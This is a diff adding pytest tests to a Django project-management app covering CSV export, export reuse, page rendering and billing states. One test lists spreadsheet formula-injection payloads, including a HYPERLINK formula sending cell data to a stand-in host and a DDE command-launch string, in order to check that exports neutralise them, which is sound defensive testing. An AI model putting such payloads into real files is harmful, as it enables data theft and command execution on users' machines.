@@ -111,3 +111,81 @@ def test_export_csv_contains_the_projects_tasks(acme):
 @pytest.mark.parametrize("path", ["/projects/999999/", "/projects/999999/edit/"])
 def test_unknown_project_is_404(acme, path):
     assert acme.client().get(path).status_code == 404
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.test/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_cells_that_a_spreadsheet_would_run_are_neutralised(acme, title):
+    with schema_context(acme.schema):
+        project = ProjectFactory()
+        TaskFactory(project=project, title=title, notes=title)
+        export = export_build(export=Export.objects.create(project=project))
+        rows = list(csv.reader(io.StringIO(export.content)))
+    assert rows[1][1] == "'" + title
+    assert rows[1][2] == "'" + title
+
+
+def test_an_ordinary_title_is_exported_unchanged(acme):
+    with schema_context(acme.schema):
+        project = ProjectFactory()
+        TaskFactory(project=project, title="Plan Q3: 50% = done?")
+        export = export_build(export=Export.objects.create(project=project))
+    assert list(csv.reader(io.StringIO(export.content)))[1][1] == "Plan Q3: 50% = done?"
+
+
+def test_asking_for_an_export_again_while_one_is_building_reuses_it(acme):
+    with schema_context(acme.schema):
+        project = ProjectFactory()
+    client = acme.client()
+    for _ in range(5):
+        client.post(f"/projects/{project.pk}/exports/")
+    with schema_context(acme.schema):
+        assert project.exports.count() == 1
+
+
+def test_only_the_newest_finished_exports_are_kept(acme):
+    with schema_context(acme.schema):
+        project = ProjectFactory()
+        for _ in range(5):
+            export_build(export=Export.objects.create(project=project))
+        assert project.exports.count() == 3
+
+
+def test_task_notes_are_shown_on_the_project_page(acme):
+    with schema_context(acme.schema):
+        project = ProjectFactory()
+        TaskFactory(project=project, title="Call the printer", notes="Ask for the matte paper")
+    page = acme.client().get(f"/projects/{project.pk}/").content.decode()
+    assert '<span class="notes">Ask for the matte paper</span>' in page
+
+
+def test_one_open_task_is_counted_in_the_singular(acme):
+    with schema_context(acme.schema):
+        TaskFactory(project=ProjectFactory())
+    page = acme.client().get("/").content.decode()
+    assert "<b>1</b> open task</span>" in page and "1</b> open tasks" not in page
+    assert "<b>1</b> project</span>" in page
+
+
+def test_a_read_only_workspace_with_no_projects_does_not_invite_creating_one(acme):
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    from billing.models import Subscription
+
+    Subscription.objects.filter(tenant=acme.tenant).update(
+        status=Subscription.Status.EXPIRED, trial_end=timezone.now() - timedelta(days=1)
+    )
+    page = acme.client().get("/").content.decode()
+    assert "Create your first one" not in page
+    assert "new projects can't be added until you" in page
